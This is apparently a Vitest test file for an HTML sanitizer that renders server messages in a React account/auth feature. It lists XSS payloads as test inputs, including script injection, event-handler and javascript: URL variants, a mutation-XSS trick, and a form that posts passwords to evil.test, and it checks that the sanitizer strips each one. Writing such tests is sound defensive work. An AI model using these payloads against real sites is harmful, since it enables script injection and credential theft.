import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { serverMarkup } from '#features/account/auth/server-markup.tsx';

const shown = (html: string) => render(<div>{serverMarkup(html)}</div>).container.firstElementChild;

describe('markup in a server message', () => {
  it('keeps emphasis, line breaks and safe links', () => {
    const html = 'a <strong>b</strong> <i>c</i> <em>d</em><br>e';
    expect(shown(html)?.innerHTML).toBe(html);
    for (const href of ['https://a.test/b', 'http://a.test/', 'mailto:it@a.test'])
      expect(shown(`<a href="${href}">x</a>`)?.querySelector('a')?.getAttribute('href')).toBe(href);
    expect(shown('<a href="/help?a=1">x</a>')?.querySelector('a')?.pathname).toBe('/help');
    expect(shown('<a href="https://a.test">x</a>')?.querySelector('a')?.rel).toBe('noopener noreferrer');
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<b onmouseover=alert(1)>text</b>',
    '<b style="position:fixed;inset:0">text</b>',
    '<a href="javascript:alert(1)">text</a>',
    '<a href=" java\tscript:alert(1)">text</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">text</a>',
    '<a href="data:text/html,<script>alert(1)</script>">text</a>',
    '<a href="vbscript:x">text</a>',
    '<a href="blob:https://a.test/1">text</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.test"><input name=password><button>text</button></form>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<template><script>alert(1)</script></template>',
    '<style>*{display:none}</style>text',
    '<a href="https://a.test" target="_self" ping="https://evil.test" onclick=alert(1)>text</a>',
    '<object data="https://evil.test"></object><embed src="https://evil.test">',
    `${'<b>'.repeat(200)}text`,
  ])('is removed when it is unsafe: %s', (html) => {
    const root = shown(html);
    for (const element of root?.querySelectorAll('*') ?? []) {
      expect(['B', 'STRONG', 'I', 'EM', 'BR', 'A']).toContain(element.tagName);
      for (const name of element.getAttributeNames()) expect(['href', 'target', 'rel']).toContain(name);
    }
    for (const link of root?.querySelectorAll('a') ?? []) expect(link.href).toMatch(/^https?:\/\/a\.test\//);
    expect(root?.innerHTML).not.toContain('alert(1)');
  });

  it('is replaced by its text when the tag is unknown', () => {
    expect(shown('<h1>Слова</h1><div><p>остаются</p></div>')?.innerHTML).toBe('Словаостаются');
    expect(shown('1 < 2 & «кавычки»')?.textContent).toBe('1 < 2 & «кавычки»');
  });
});
